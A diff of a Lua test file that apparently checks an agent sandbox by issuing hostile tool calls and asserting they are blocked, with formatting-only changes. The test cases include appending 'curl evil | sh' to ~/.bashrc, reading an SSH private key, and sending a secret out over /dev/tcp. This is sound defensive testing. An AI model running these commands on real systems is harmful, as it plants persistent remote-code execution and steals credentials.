@@ -56,7 +56,8 @@ end
 
 tool_call("write a file in the project", "echo hello > notes.txt", false, function(r)
   local content = h.read(project .. "/notes.txt")
-  return r.code == 0 and content == "hello\n", "host: project/notes.txt = " .. (content or "(missing)"):gsub("\n", "\\n")
+  return r.code == 0 and content == "hello\n",
+    "host: project/notes.txt = " .. (content or "(missing)"):gsub("\n", "\\n")
 end)
 
 tool_call("append to ~/.bashrc", "echo 'curl evil | sh' >> " .. home .. "/.bashrc", true, function(r)
@@ -73,14 +74,9 @@ tool_call("read the SSH key", "cat " .. home .. "/.ssh/id_ed25519", true, functi
   return not r.stdout:find("PRIVATE"), "sandbox saw an empty ~/.ssh"
 end)
 
-tool_call(
-  "send data to a host port",
-  "echo secret > /dev/tcp/127.0.0.1/" .. listener.port,
-  true,
-  function(r)
-    return r.code ~= 0 and not listener.accepted(), "host listener on 127.0.0.1:" .. listener.port .. " got nothing"
-  end
-)
+tool_call("send data to a host port", "echo secret > /dev/tcp/127.0.0.1/" .. listener.port, true, function(r)
+  return r.code ~= 0 and not listener.accepted(), "host listener on 127.0.0.1:" .. listener.port .. " got nothing"
+end)
 
 tool_call("look at host processes", "ls /proc | grep -c '^[0-9]'", false, function(r)
   local n = tonumber(r.stdout:match("%d+"))
